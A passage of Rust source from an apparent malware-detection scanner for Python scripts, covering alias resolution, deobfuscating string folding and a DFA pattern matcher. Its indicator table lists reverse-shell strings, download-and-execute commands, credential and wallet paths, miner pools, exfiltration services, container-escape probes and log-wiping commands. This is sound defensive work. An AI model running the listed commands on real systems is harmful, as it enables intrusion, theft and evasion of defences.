    fn bracket<'a>(t: &Token<'a>) -> &'a str {
        if t.kind == Kind::Op {
            t.text
        } else {
            ""
        }
    }
    let mut depth = 0u32;
    let open = (i.saturating_sub(SPAN)..i).rev().find(|&k| {
        match bracket(&tokens[k]) {
            ")" | "]" | "}" => depth += 1,
            "(" | "[" | "{" if depth == 0 => return true,
            "(" | "[" | "{" => depth -= 1,
            _ => {}
        }
        false
    });
    let mut depth = 0u32;
    let close = (i + 1..tokens.len().min(i + SPAN + 1)).find(|&k| {
        match bracket(&tokens[k]) {
            "(" | "[" | "{" => depth += 1,
            ")" | "]" | "}" if depth == 0 => return true,
            ")" | "]" | "}" => depth -= 1,
            _ => {}
        }
        false
    });
    let span = match (open, close) {
        (Some(o), Some(c)) if tokens[o].text == "(" && tokens[c].text == ")" => &tokens[o + 1..c],
        _ => &[],
    };
    span.iter()
}

/// Whether the `open` argument at `tokens[i]` is followed by a positional write or append
/// mode: `open(X, "wb")`, `open(X, "a")`.
fn opened_for_writing(tokens: &[Token], i: usize) -> bool {
    tokens.get(i + 1).is_some_and(|c| c.text == ",")
        && tokens
            .get(i + 2)
            .is_some_and(|m| m.kind == Kind::Str && m.text.starts_with(['w', 'a']))
}

/// A hidden file under a temporary directory: `/tmp/.X11-unix/.sysd`, `/dev/shm/.x`.
fn is_hidden_tmp(s: &str) -> bool {
    // A hidden part starts with "/."; most strings have none, and are turned away before any
    // substring search is set up: a short one by a plain loop (`memmem` takes about 8
    // instructions a byte on short strings), a long one by `memmem`'s vector search.
    let b = s.as_bytes();
    let slash_dot = if b.len() < 64 {
        b.windows(2).any(|w| w[0] == b'/' && w[1] == b'.')
    } else {
        memchr::memmem::find(b, b"/.").is_some()
    };
    if !slash_dot {
        return false;
    }
    ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|dir| {
        s.find(dir).is_some_and(|at| {
            s[at + dir.len()..]
                .split('/')
                .any(|part| part.len() > 1 && part.starts_with('.') && part != "..")
        })
    })
}

/// Whether `tokens[i]` continues a constant `+` chain that a [`fold`] starting earlier
/// covers (`"a" + "b"`, `chr(1) + chr(2)`, `"ab"[::-1] + "c"`); after a variable
/// (`p + "/bin/" + "sh"`) a new fold starts.
fn follows_plus(tokens: &[Token], i: usize) -> bool {
    i >= 2
        && tokens[i - 1].kind == Kind::Op
        && tokens[i - 1].text == "+"
        && (tokens[i - 2].kind == Kind::Str
            || (tokens[i - 2].kind == Kind::Op && matches!(tokens[i - 2].text, ")" | "]")))
}

/// Modules whose names matter to the features: an alias of one of these (`import socket as
/// S`, `from pty import spawn as go`, `s = __import__("so" + "cket")`) is read as its target.
fn is_watched_module(name: &str) -> bool {
    matches!(
        first_segment(name),
        "os" | "sys"
            | "socket"
            | "subprocess"
            | "pty"
            | "base64"
            | "binascii"
            | "zlib"
            | "gzip"
            | "lzma"
            | "bz2"
            | "marshal"
            | "pickle"
            | "codecs"
            | "urllib"
            | "urllib2"
            | "requests"
            | "httpx"
            | "http"
            | "builtins"
            | "__builtin__"
            | "ctypes"
            | "importlib"
            | "shutil"
            | "platform"
            | "getpass"
            | "asyncio"
            | "setuptools"
            | "distutils"
            | "exec"
            | "eval"
            | "compile"
            | "__import__"
            | "getattr"
            | "open"
    )
}

/// Local names bound to watched modules or functions.
struct Aliases {
    /// Alias → what it stands for (a later binding replaces an earlier one, as in Python for
    /// straight-line code).
    names: std::collections::HashMap<Box<str>, String>,
    /// A 16,384-bit screen over (length, first, second and last byte) of the aliases: most
    /// names are passed over without hashing. With the most aliases kept ([`Aliases::MAX`])
    /// about one name in 60 that is none passes it; a 1,024-bit screen let up to a quarter
    /// through (on a megabyte of our scripts, 1,445 lookups that failed).
    screen: Box<[u64; Aliases::SCREEN_WORDS]>,
}

impl Default for Aliases {
    fn default() -> Self {
        Aliases {
            names: std::collections::HashMap::new(),
            screen: Box::new([0; Aliases::SCREEN_WORDS]),
        }
    }
}

impl Aliases {
    /// At most this many aliases are kept (a module rarely binds more than a few).
    const MAX: usize = 256;
    /// The screen's size in words: 2^14 bits.
    const SCREEN_WORDS: usize = 256;

    /// The aliases bound in `tokens`, looking only at `binds` (each `import` and each name
    /// before an `=`, in order: [`Gathered::binds`]).
    fn of(tokens: &[Token], binds: &[u32]) -> Aliases {
        let mut a = Aliases::default();
        let name_at = |k: usize| tokens.get(k).filter(|t| t.kind == Kind::Name);
        let op_at = |k: usize, op: &str| {
            tokens
                .get(k)
                .is_some_and(|t| t.kind == Kind::Op && t.text == op)
        };
        for &i in binds {
            let i = i as usize;
            let Some(t) = tokens.get(i).filter(|t| t.kind == Kind::Name) else {
                continue;
            };
            match t.text {
                "import" => {
                    // `from M import a as b, c` or `import M as N, P`.
                    let from = (i >= 2 && tokens[i - 2].text == "from")
                        .then(|| name_at(i - 1))
                        .flatten()
                        .map(|m| m.text);
                    let mut k = i + 1;
                    if op_at(k, "(") {
                        k += 1;
                    }
                    while let Some(item) = name_at(k) {
                        let target = match from {
                            Some(m) => [m, ".", item.text].concat(),
                            None => item.text.to_string(),
                        };
                        let (alias, next) = match name_at(k + 1) {
                            Some(n) if n.text == "as" => match name_at(k + 2) {
                                Some(al) => (Some(al.text), k + 3),
                                None => (None, k + 2),
                            },
                            _ => (from.map(|_| item.text), k + 1),
                        };
                        if let Some(alias) = alias {
                            if alias != target && is_watched_module(&target) {
                                a.add(alias, target);
                            }
                        }
                        if !op_at(next, ",") {
                            break;
                        }
                        k = next + 1;
                    }
                }
                // `N = __import__("M")`, `N = importlib.import_module("M")`, `N = os.system`.
                alias if op_at(i + 1, "=") && !op_at(i.wrapping_sub(1), ".") => {
                    let Some(value) = name_at(i + 2) else {
                        continue;
                    };
                    let v = value.tail();
                    if (v == "__import__" || v == "import_module") && op_at(i + 3, "(") {
                        if let Some(m) = fold(tokens, i + 4) {
                            if is_watched_module(&m.text) {
                                a.add(alias, m.text);
                            }
                        }
                    } else if !op_at(i + 3, "(")
                        && !op_at(i + 3, "[")
                        && !op_at(i + 3, ".")
                        && is_watched_module(value.text)
                        && value.text != alias
                    {
                        a.add(alias, value.text.to_string());
                    }
                }
                _ => {}
            }
        }
        a
    }

    fn add(&mut self, alias: &str, target: String) {
        if self.names.len() >= Self::MAX && !self.names.contains_key(alias) {
            return;
        }
        let bit = usize::from(Self::screen_bit(alias.as_bytes()));
        self.screen[bit / 64] |= 1 << (bit % 64);
        self.names.insert(alias.into(), target);
    }

    /// The bit of `name` in the screen: below 2^14, from its [`screen_key`] mixed by a
    /// multiplication.
    fn screen_bit(name: &[u8]) -> u16 {
        Self::key_bit(screen_key(name))
    }

    /// [`Aliases::screen_bit`] of the name whose [`screen_key`] is `key`.
    #[inline(always)]
    fn key_bit(key: u32) -> u16 {
        (key.wrapping_mul(0x9e37_79b1) >> 18) as u16
    }

    /// [`Aliases::may_hold`] of a name whose first segment's [`Aliases::screen_bit`] is `bit`.
    #[inline(always)]
    fn may_hold_bit(&self, bit: u16) -> bool {
        let bit = usize::from(bit);
        !self.names.is_empty() && self.screen[bit / 64] & (1 << (bit % 64)) != 0
    }

    /// False when `head`, a name's first segment, is surely no alias (there are none, or its
    /// screen bit is clear): [`Aliases::resolve_head`] returns such a name as it is.
    #[inline(always)]
    fn may_hold(&self, head: &str) -> bool {
        self.may_hold_bit(Self::screen_bit(head.as_bytes()))
    }

    /// `name` with its first segment replaced by what it stands for.
    fn resolve<'n>(&'n self, name: &'n str) -> std::borrow::Cow<'n, str> {
        self.resolve_head(name, first_segment(name))
    }

    /// [`Aliases::resolve`] of a name whose first segment `head` is known (the lexer's
    /// [`Token::head`]).
    #[inline(always)]
    fn resolve_head<'n>(&'n self, name: &'n str, head: &str) -> std::borrow::Cow<'n, str> {
        debug_assert_eq!(head, first_segment(name));
        if !self.may_hold(head) {
            return std::borrow::Cow::Borrowed(name);
        }
        let b = name.as_bytes();
        let dot = head.len();
        match self.names.get(&name[..dot]) {
            Some(target) if dot == b.len() => std::borrow::Cow::Borrowed(target),
            Some(target) => std::borrow::Cow::Owned([target, &name[dot..]].concat()),
            None => std::borrow::Cow::Borrowed(name),
        }
    }
}

/// `getattr(obj, "name")` at `tokens[i]`: the dotted name `obj.name`, aliases resolved.
fn getattr_target(tokens: &[Token], i: usize, aliases: &Aliases) -> Option<String> {
    let obj = tokens.get(i + 2).filter(|t| t.kind == Kind::Name)?;
    if tokens.get(i + 3)?.text != "," {
        return None;
    }
    let attr = fold(tokens, i + 4)?;
    let ident = !attr.text.is_empty()
        && attr.text.len() <= 64
        && attr
            .text
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || c == b'_');
    ident.then(|| [&*aliases.resolve(obj.text), ".", &attr.text].concat())
}

/// The longest text [`fold`] builds.
const FOLD_MAX: usize = 64 * 1024;
/// The most pieces [`fold`] joins.
const FOLD_MAX_PARTS: usize = 4096;

/// A string expression spelled in pieces.
struct Folded {
    text: String,
    /// Pieces joined (1 for a lone literal).
    parts: usize,
    /// A piece was reversed with `[::-1]`.
    reversed: bool,
}

/// Folds the constant string expression starting at `tokens[i]`: literals, `chr(N)`,
/// `"…"[::-1]` and `"sep".join([…])`, joined with `+`. None when `tokens[i]` starts none.
fn fold(tokens: &[Token], i: usize) -> Option<Folded> {
    let mut out = Folded {
        text: String::new(),
        parts: 0,
        reversed: false,
    };
    let mut next = fold_piece(tokens, i, &mut out)?;
    if out.text.len() > FOLD_MAX {
        return None;
    }
    while tokens
        .get(next)
        .is_some_and(|t| t.kind == Kind::Op && t.text == "+")
    {
        // A piece that is not constant, or one past the bounds, ends the fold: what came
        // before it is kept.
        let (len, parts) = (out.text.len(), out.parts);
        match fold_piece(tokens, next + 1, &mut out) {
            Some(n) if out.text.len() <= FOLD_MAX && out.parts <= FOLD_MAX_PARTS => next = n,
            _ => {
                out.text.truncate(len);
                out.parts = parts;
                break;
            }
        }
    }
    Some(out)
}

/// Whether the string at `tokens[i]` may start a [`fold`] of more than one piece.
fn may_fold(tokens: &[Token], i: usize) -> bool {
    let op = |k: usize, text: &str| {
        tokens
            .get(k)
            .is_some_and(|t| t.kind == Kind::Op && t.text == text)
    };
    op(i + 1, "+")
        || (op(i + 1, ".") && tokens.get(i + 2).is_some_and(|t| t.text == "join"))
        || reversed_at(tokens, i + 1)
}

/// One piece of [`fold`] at `tokens[k]`, appended to `out`; the index after it.
fn fold_piece(tokens: &[Token], k: usize, out: &mut Folded) -> Option<usize> {
    let t = tokens.get(k)?;
    match t.kind {
        Kind::Str => {
            // `"sep".join([...])` or `"sep".join((...))`.
            let joins = tokens.get(k + 1).is_some_and(|n| n.text == ".")
                && tokens.get(k + 2).is_some_and(|n| n.text == "join")
                && tokens.get(k + 3).is_some_and(|n| n.text == "(")
                && tokens
                    .get(k + 4)
                    .is_some_and(|n| n.text == "[" || n.text == "(");
            if joins {
                let close = if tokens[k + 4].text == "[" { "]" } else { ")" };
                let mut j = k + 5;
                let mut first = true;
                loop {
                    let p = tokens.get(j)?;
                    if p.kind == Kind::Op && p.text == close {
                        break;
                    }
                    if !first {
                        out.text.push_str(t.text);
                    }
                    first = false;
                    let s = tokens.get(j).filter(|p| p.kind == Kind::Str)?;
                    out.text.push_str(s.text);
                    out.parts += 1;
                    if out.text.len() > FOLD_MAX || out.parts > FOLD_MAX_PARTS {
                        return None;
                    }
                    j += 1;
                    match tokens.get(j) {
                        Some(c) if c.text == "," => j += 1,
                        Some(c) if c.text == close => {}
                        _ => return None,
                    }
                }
                if tokens.get(j + 1)?.text != ")" {
                    return None;
                }
                return Some(j + 2);
            }
            if reversed_at(tokens, k + 1) {
                out.text.extend(t.text.chars().rev());
                out.parts += 1;
                out.reversed = true;
                return Some(k + 7);
            }
            out.text.push_str(t.text);
            out.parts += 1;
            Some(k + 1)
        }
        Kind::Name if t.text == "chr" => {
            if tokens.get(k + 1)?.text != "(" || tokens.get(k + 3)?.text != ")" {
                return None;
            }
            let n = tokens.get(k + 2).filter(|n| n.kind == Kind::Number)?;
            out.text.push(char::from_u32(parse_int(n.text)?)?);
            out.parts += 1;
            Some(k + 4)
        }
        _ => None,
    }
}

/// A decimal, hex, octal or binary integer literal.
fn parse_int(s: &str) -> Option<u32> {
    // Most numbers are plain decimals.
    if !s.is_empty() && s.len() <= 10 && s.bytes().all(|c| c.is_ascii_digit()) {
        return s.parse().ok();
    }
    let s = s.replace('_', "");
    let lower = s.to_ascii_lowercase();
    if let Some(h) = lower.strip_prefix("0x") {
        u32::from_str_radix(h, 16).ok()
    } else if let Some(o) = lower.strip_prefix("0o") {
        u32::from_str_radix(o, 8).ok()
    } else if let Some(b) = lower.strip_prefix("0b") {
        u32::from_str_radix(b, 2).ok()
    } else {
        lower.parse().ok()
    }
}

/// The text spelled by a list of character codes opening at `tokens[i]` (`[` or `(`): at
/// least 16 integers, all printable ASCII or whitespace.
fn char_codes(tokens: &[Token], i: usize) -> Option<String> {
    const MIN: usize = 16;
    let close = if tokens[i].text == "[" { "]" } else { ")" };
    let mut text = String::new();
    let mut j = i + 1;
    // Cheap rejection first: the list must start with a number.
    tokens.get(j).filter(|t| t.kind == Kind::Number)?;
    loop {
        let t = tokens.get(j)?;
        if t.kind == Kind::Op && t.text == close {
            break;
        }
        let n = tokens.get(j).filter(|t| t.kind == Kind::Number)?;
        let v = parse_int(n.text)?;
        if !(v == 9 || v == 10 || v == 13 || (32..127).contains(&v)) {
            return None;
        }
        text.push(char::from_u32(v)?);
        j += 1;
        match tokens.get(j) {
            Some(c) if c.text == "," => j += 1,
            Some(c) if c.text == close => {}
            _ => return None,
        }
    }
    (text.len() >= MIN).then_some(text)
}

/// A path of a credential or secret file (a service account's namespace name and CA
/// certificate, beside its token, are not secret).
fn is_secret_file(s: &str) -> bool {
    (s.ends_with("/.env") || s == ".env" || has_feature(s, F::Sensitive))
        && !s.ends_with("/namespace")
        && !s.ends_with("/ca.crt")
}

/// Whether one of `f`'s indicator patterns occurs in `s`.
fn has_feature(s: &str, f: F) -> bool {
    let p = patterns();
    let mut found = false;
    p.find(s, |m| {
        found |= p.features[m.pattern] == f && p.kinds[m.pattern] & CUES == 0;
    });
    found
}

/// `[::-1]` starting at token `i`.
fn reversed_at(tokens: &[Token<'_>], i: usize) -> bool {
    const PATTERN: [&str; 6] = ["[", ":", ":", "-", "1", "]"];
    tokens
        .get(i..i + 6)
        .is_some_and(|s| s.iter().zip(PATTERN).all(|(t, p)| t.text == p))
}

/// Whether a name's last segment `seg` is obfuscated (`_0x1f`, `O0O0OO`, `lIlIl1`). Every
/// name of the source is tested, so most are turned away by their first byte and length alone:
/// below 10 bytes a weird segment starts with `_` or a confusable byte (a first byte of another
/// kind is already more than the tenth of them allowed to be other).
#[inline(always)]
fn is_weird_segment(seg: &str) -> bool {
    match seg.as_bytes().first() {
        Some(b'_' | b'O' | b'0' | b'1' | b'I' | b'l') => {}
        Some(_) if seg.len() >= 10 => {}
        _ => return false,
    }
    if seg.len() < 6 {
        return seg.starts_with("_0x") && seg.len() > 3;
    }
    if seg.starts_with("_0x") {
        return true;
    }
    // At least 90% of the bytes are confusable (O 0 I l 1): at most a tenth are not, so most
    // names stop at their first byte. And one of them is 0, 1 or O.
    let allowed = seg.len() / 10;
    let mut others = 0;
    let mut zero_one_o = false;
    for c in seg.bytes() {
        match c {
            b'O' | b'0' | b'1' => zero_one_o = true,
            b'I' | b'l' => {}
            _ => {
                others += 1;
                if others > allowed {
                    return false;
                }
            }
        }
    }
    zero_one_o
}

struct Patterns {
    /// All patterns, ASCII case ignored; walked by [`Patterns::find`].
    dfa: DFA,
    /// The patterns, in the DFA's order.
    #[cfg_attr(not(test), allow(dead_code, reason = "read by the tests"))]
    texts: Vec<&'static str>,
    features: Vec<F>,
    /// For container-escape probes, the kind of probe (an [`escape_kind`] bit).
    kinds: Vec<u16>,
    /// The longest pattern's length, in bytes.
    longest: usize,
}

/// One occurrence of an indicator pattern.
struct Hit {
    pattern: usize,
    start: usize,
    end: usize,
}

/// Strings at least this long are walked in [`LANES`] pieces at once.
const LANE_MIN: usize = 256;
/// How many pieces of a long string the DFA walks side by side.
const LANES: usize = 4;

impl Patterns {
    /// Hands `hit` every occurrence of a pattern in `s`, overlapping ones included, in order
    /// of their ends. The same matches as `AhoCorasick::find_overlapping_iter`.
    fn find(&self, s: &str, hit: impl FnMut(Hit)) {
        // One loop per walk: an iterator chaining the two cost 2% of a 10 KB score.
        if s.len() >= LANE_MIN {
            self.walk_lanes(s).into_iter().for_each(hit);
        } else {
            self.walk(s).for_each(hit);
        }
    }

    /// [`Patterns::find`] for long strings: the string cut into [`LANES`] pieces, walked side
    /// by side. One walk waits on each transition's load before the next; four independent
    /// ones overlap those waits (on a 1 MB blob the walk was 45% of the scoring time).
    ///
    /// A piece's walk starts the longest pattern's length before the piece, from the start
    /// state: the DFA's state after a byte depends only on the bytes of the longest pattern
    /// prefix ending there, so by the piece's first byte it is in the state one walk over the
    /// whole string would be. Each piece gives the matches that end in it, so the pieces'
    /// matches, one after the other, are the single walk's.
    fn walk_lanes(&self, s: &str) -> Vec<Hit> {
        let dfa = &self.dfa;
        let start = dfa
            .start_state(Anchored::No)
            .expect("the DFA is built for unanchored searches");
        let b = s.as_bytes();
        let piece = b.len().div_ceil(LANES);
        // Lane `l` reads `at[l]..end[l]` and gives the matches ending after `from[l]`.
        let from: [usize; LANES] = std::array::from_fn(|l| (l * piece).min(b.len()));
        let end: [usize; LANES] = std::array::from_fn(|l| ((l + 1) * piece).min(b.len()));
        let mut at: [usize; LANES] = std::array::from_fn(|l| from[l].saturating_sub(self.longest));
        let mut sid = [start; LANES];
        let mut hits: [Vec<Hit>; LANES] = Default::default();
        // A dead state ends the walk (the unanchored DFA has none reachable; the single walk
        // stops there too, so the lanes after it give nothing).
        let mut dead = LANES;
        let mut visit = |l: usize, sid: StateID, at: usize, hits: &mut Vec<Hit>| {
            if dfa.is_dead(sid) {
                dead = dead.min(l);
            } else if dfa.is_match(sid) && at > from[l] {
                for k in 0..dfa.match_len(sid) {
                    let pattern = dfa.match_pattern(sid, k);
                    hits.push(Hit {
                        pattern: pattern.as_usize(),
                        start: at - dfa.pattern_len(pattern),
                        end: at,
                    });
                }
            }
        };
        // Side by side while every lane has bytes left: one iterator per lane, zipped, so
        // that the loop has no bounds checks and keeps the four states in registers.
        let together = (0..LANES).map(|l| end[l] - at[l]).min().unwrap_or(0);
        let [b0, b1, b2, b3] = at.map(|a| &b[a..a + together]);
        let [mut s0, mut s1, mut s2, mut s3] = sid;
        for (k, (((&c0, &c1), &c2), &c3)) in b0.iter().zip(b1).zip(b2).zip(b3).enumerate() {
            s0 = dfa.next_state(Anchored::No, s0, c0);
            s1 = dfa.next_state(Anchored::No, s1, c1);
            s2 = dfa.next_state(Anchored::No, s2, c2);
            s3 = dfa.next_state(Anchored::No, s3, c3);
            if dfa.is_special(s0) | dfa.is_special(s1) | dfa.is_special(s2) | dfa.is_special(s3) {
                for (l, s) in [s0, s1, s2, s3].into_iter().enumerate() {
                    if dfa.is_special(s) {
                        visit(l, s, at[l] + k + 1, &mut hits[l]);
                    }
                }
            }
        }
        sid = [s0, s1, s2, s3];
        // Then each lane on its own.
        for l in 0..LANES {
            at[l] += together;
            while at[l] < end[l] {
                sid[l] = dfa.next_state(Anchored::No, sid[l], b[at[l]]);
                at[l] += 1;
                if dfa.is_special(sid[l]) {
                    visit(l, sid[l], at[l], &mut hits[l]);
                }
            }
        }
        let mut out = Vec::new();
        for lane in hits.into_iter().take(dead.saturating_add(1).min(LANES)) {
            out.extend(lane);
        }
        out
    }

    /// [`Patterns::find`] for short strings: a plain loop over the DFA's transitions, about
    /// 11 instructions per byte (`find_overlapping_iter` took 19).
    fn walk<'p>(&'p self, s: &'p str) -> impl Iterator<Item = Hit> + 'p {
        let dfa = &self.dfa;
        let start = dfa
            .start_state(Anchored::No)
            .expect("the DFA is built for unanchored searches");
        let mut sid = start;
        let b = s.as_bytes();
        let mut at = 0;
        // Matches of the state reached at `at`, not yet given out.
        let mut pending = 0..0;
        std::iter::from_fn(move || loop {
            if let Some(k) = pending.next() {
                let pattern = dfa.match_pattern(sid, k);
                let len = dfa.pattern_len(pattern);
                return Some(Hit {
                    pattern: pattern.as_usize(),
                    start: at - len,
                    end: at,
                });
            }
            let rest = b.get(at..)?;
            let Some(stop) = rest.iter().position(|&byte| {
                sid = dfa.next_state(Anchored::No, sid, byte);
                dfa.is_special(sid)
            }) else {
                // The end: stays the end if asked again.
                at = b.len();
                return None;
            };
            at += stop + 1;
            if dfa.is_dead(sid) {
                return None;
            }
            if dfa.is_match(sid) {
                pending = 0..dfa.match_len(sid);
            }
        })
    }
}

/// Kinds of container-escape probe, one bit each: the host's root or namespaces through pid
/// 1, a container runtime's socket, a cgroup `release_agent`, `nsenter`, the kernel's
/// `core_pattern`, the capability set, a host disk mounted.
const ESCAPE_MOUNT: u16 = 1 << 6;
/// `nsenter` into pid 1's namespaces.
const ESCAPE_NSENTER_PID1: u16 = 1 << 7;
/// The bits above that are kinds of probe; the ones after them qualify a kind.
const ESCAPE_KINDS: u16 = 0xff;
/// The kinds an escape checklist counts: `nsenter` into pid 1 always comes with `nsenter`
/// itself (bit 3), so it is not a second kind there.
const CHECKLIST_KINDS: u16 = ESCAPE_KINDS & !ESCAPE_NSENTER_PID1;
/// Kinds that are escapes themselves, not only probes. (A disk or cgroup mounted is one
/// kind of probe among others: provisioning scripts mount disks.)
const ESCAPE_ACTION: u16 = ESCAPE_NSENTER_PID1;
const ESCAPE_SOCKET: u16 = 1 << 1;
/// A cgroup's `release_agent` or `notify_on_release` named.
const ESCAPE_RELEASE_AGENT: u16 = 1 << 2;
/// The disk mounted is a cgroup filesystem (with [`ESCAPE_RELEASE_AGENT`], the release_agent
/// escape). Not a kind of its own: it qualifies [`ESCAPE_MOUNT`].
const ESCAPE_CGROUP_MOUNT: u16 = 1 << 8;
/// The cgroup type named in a string (`-t cgroup`): a cue to look for a mount command around
/// it ([`mounts_cgroup_v1`]); not a probe, and never kept in `Acc::escape_kinds`.
const CGROUP_TYPE: u16 = 1 << 9;
/// `://` in a string: a cue for the URL checks.
const SCHEME_SEPARATOR: u16 = 1 << 10;
/// A directory of temporary files in a string (`/tmp/`, `/var/tmp/`, `/dev/shm/`, ASCII case
/// ignored): a cue for the hidden-path check ([`is_hidden_tmp`]).
const TMP_DIR: u16 = 1 << 11;
/// Cues: patterns walked with the indicators rather than searched for apart, for checks that
/// need them. They name no feature, and are never kept in `Acc::escape_kinds`; [`string`]
/// returns the ones it found.
const CUES: u16 = SCHEME_SEPARATOR | TMP_DIR;
/// The cues' patterns.
const CUE_PATTERNS: &[(&str, u16)] = &[
    ("://", SCHEME_SEPARATOR),
    ("/tmp/", TMP_DIR),
    ("/dev/shm/", TMP_DIR),
];

fn escape_kind(pattern: &str) -> u16 {
    match pattern {
        "/proc/1/root" | "/proc/1/ns" => 1,
        "docker.sock" | "containerd.sock" | "crio.sock" => ESCAPE_SOCKET,
        "release_agent" | "notify_on_release" => ESCAPE_RELEASE_AGENT,
        "nsenter" => 1 << 3,
        "core_pattern" => 1 << 4,
        "capeff" => 1 << 5,
        "mount /dev/" => ESCAPE_MOUNT,
        "mount -t cgroup" => ESCAPE_MOUNT | ESCAPE_CGROUP_MOUNT,
        "-t cgroup" | "-tcgroup" | "--types cgroup" | "--types=cgroup" => CGROUP_TYPE,
        "nsenter -t 1 " | "nsenter --target 1 " | "nsenter -t1 " => ESCAPE_NSENTER_PID1,
        _ => 0,
    }
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let table: &[(F, &[&str])] = &[
            (
                F::ShellStr,
                &[
                    "/bin/sh",
                    "/bin/bash",
                    "bash -i",
                    "sh -i",
                    "/bin/zsh",
                    "cmd.exe",
                    "powershell",
                    "/bin/busybox",
                    "-c 'exec",
                    "cmd /c",
                ],
            ),
            (
                F::DownloadCmd,
                &[
                    "curl ",
                    "wget ",
                    "| sh",
                    "|sh",
                    "| bash",
                    "|bash",
                    "chmod +x",
                    "chmod 777",
                    "chmod 755 /tmp",
                    "invoke-webrequest",
                    "downloadstring",
                    "downloadfile",
                    "certutil",
                    "bitsadmin",
                    "start /b",
                    "mshta",
                    "rundll32",
                    "regsvr32",
                    "iex(",
                ],
            ),
            (F::Fileless, &["/proc/self/fd/"]),
            (
                F::DevTcp,
                &[
                    "/dev/tcp/",
                    "/dev/udp/",
                    "mkfifo",
                    "nc -e",
                    "ncat -e",
                    "nc.traditional",
                    "0>&1",
                    ">&/dev/",
                    "2>&1 | nc",
                    "socat exec",
                    "socat tcp",
                ],
            ),
            (
                F::Stratum,
                &[
                    "stratum+tcp",
                    "stratum+ssl",
                    "stratum+tls",
                    "stratum2+",
                    "xmrig",
                    "minerd",
                    "cryptonight",
                    "randomx",
                    "monero",
                    "nicehash",
                    "--donate-level",
                    "cpuminer",
                    "nanopool",
                    "minexmr",
                    "supportxmr",
                    "2miners",
                    "ethermine",
                    "kinsing",
                    "kdevtmpfsi",
                    "mining.subscribe",
                    "mining.authorize",
                    "mining.submit",
                ],
            ),
            (
                F::Sensitive,
                &[
                    ".ssh/id_",
                    "id_rsa",
                    "id_ed25519",
                    ".aws/credentials",
                    ".aws/config",
                    ".kube/config",
                    "serviceaccount/token",
                    "/etc/shadow",
                    "/etc/passwd",
                    "login data",
                    "local state",
                    "\\cookies",
                    "/cookies",
                    ".git-credentials",
                    ".docker/config.json",
                    "wallet.dat",
                    "keychain",
                    "discord",
                    "leveldb",
                    "\\appdata\\",
                    "appdata",
                    ".bash_history",
                    "/etc/kubernetes/admin.conf",
                    "/var/lib/kubelet/pods",
                    "application_default_credentials",
                    "/proc/self/environ",
                    "/environ",
                    "/proc/1/root",
                    "docker.sock",
                    "release_agent",
                    "/var/run/secrets",
                    ".npmrc",
                    ".pypirc",
                    ".netrc",
                    "gcloud/credentials",
                    "credentials.db",
                    "access_tokens.db",
                    "exodus",
                    "metamask",
                    "telegram desktop",
                    "tdata",
                    "filezilla",
                    "wallets",
                ],
            ),
            (
                F::Metadata,
                &[
                    "169.254.169.254",
                    "metadata.google.internal",
                    "computemetadata",
                    "100.100.100.200",
                    "fd00:ec2::254",
                    "/latest/meta-data",
                    "/metadata/instance",
                ],
            ),
            (
                F::Persist,
                &[
                    "crontab",
                    "/etc/cron",
                    "/var/spool/cron",
                    ".bashrc",
                    ".bash_profile",
                    ".profile",
                    "/etc/profile.d",
                    "systemd/system",
                    "systemctl enable",
                    "authorized_keys",
                    "ld.so.preload",
                    "currentversion\\run",
                    "\\startup",
                    "schtasks",
                    "rc.local",
                    "/etc/init.d",
                    ".config/autostart",
                ],
            ),
            (
                F::ExfilService,
                &[
                    "discord.com/api/webhooks",
                    "discordapp.com/api/webhooks",
                    "api.telegram.org",
                    "pastebin.com",
                    "transfer.sh",
                    "ngrok",
                    "oast.",
                    "interact.sh",
                    "burpcollaborator",
                    "requestbin",
                    "pipedream",
                    "webhook.site",
                    "hastebin",
                    "anonfiles",
                    "file.io",
                    "temp.sh",
                    "dnslog",
                    "ceye.io",
                    "herokuapp.com",
                    "glitch.me",
                    "repl.co",
                    "cdn.discordapp.com/attachments",
                    "bit.ly",
                    "paste.ee",
                    "gofile.io",
                    "api.ipify.org",
                    "ifconfig.me",
                    "ipinfo.io",
                    "icanhazip",
                    "checkip.",
                ],
            ),
            (
                F::ExeDrop,
                &[
                    ".exe", ".bat", ".vbs", ".ps1", ".scr", ".hta", ".cmd\"", ".jar",
                ],
            ),
            (F::KillProc, &["pkill", "killall", "kill -9", "taskkill"]),
            (F::SecretDump, &["/api/v1/secrets"]),
            (
                F::EscapeProbe,
                &[
                    "mount /dev/",
                    "mount -t cgroup",
                    "-t cgroup",
                    "-tcgroup",
                    "--types cgroup",
                    "--types=cgroup",
                    "nsenter -t 1 ",
                    "nsenter --target 1 ",
                    "nsenter -t1 ",
                ],
            ),
            (
                F::DefenseEvasion,
                &[
                    "> /etc/ld.so.preload",
                    ">/etc/ld.so.preload",
                    "tee /etc/ld.so.preload",
                    "tee -a /etc/ld.so.preload",
                    "libprocesshider",
                ],
            ),
            (
                F::DefenseEvasion,
                &[
                    // Not `iptables -F` alone (firewall scripts flush before they add
                    // rules), `>> /var/log/app.log` (logging) nor `rm -f /var/log/x.1`
                    // (rotation): only forms that switch a defence off or wipe logs.
                    "setenforce 0",
                    "iptables -p input accept",
                    "ufw disable",
                    "history -c",
                    "unset histfile",
                    "histfile=/dev/null",
                    "histsize=0",
                    "rm -rf /var/log/*",
                    "rm -rf /var/log;",
                    "rm -rf /var/log\"",
                    "rm -rf /var/log'",
                    "rm -rf ~/.bash_history",
                    ": > /var/log/",
                    "cat /dev/null > /var/log/",
                    "truncate -s 0 /var/log/",
                    "shred -u /var/log/",
                    "auditctl -e 0",
                    "auditctl -d",
                    "stop auditd",
                    "stop apparmor",
                    "disable apparmor",
                ],
            ),
            (F::HexDecode, &["rot13", "rot_13", "rot-13"]),
            (
                F::SecretNames,
                &[
                    "token",
                    "secret",
                    "password",
                    "passwd",
                    "api_key",
                    "apikey",
                    "private_key",
                    "credential",
                ],
            ),
            (
                F::EscapeProbe,
                &[
                    "/proc/1/root",
                    "/proc/1/ns",
                    "docker.sock",
                    "release_agent",
                    "notify_on_release",
                    "nsenter",
                    "core_pattern",
                    "capeff",
                    "containerd.sock",
                    "crio.sock",
                ],
            ),
            (
                F::InternalUrl,
                &[
                    "kubernetes.default",
                    ".svc.cluster.local",
                    ".svc:",
                    ".internal:",
                    "unix://",
                    "/run/",
                ],
            ),
        ];
        let mut pats = Vec::new();
        let mut features = Vec::new();
        let mut kinds = Vec::new();
        for (f, list) in table {
            for p in *list {
                pats.push(*p);
                features.push(*f);
